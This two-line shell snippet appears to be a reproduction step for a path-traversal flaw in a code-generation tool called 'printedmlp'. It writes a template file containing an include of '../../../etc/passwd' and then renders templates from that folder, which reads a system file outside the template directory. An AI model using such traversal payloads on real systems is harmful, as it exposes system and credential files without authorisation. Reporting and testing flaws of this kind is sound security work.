mkdir -p mine/verilog && echo "{{ include '../../../etc/passwd' }}" >mine/verilog/rtl.v.sbn
printedmlp emit design/model.json --out out --templates mine
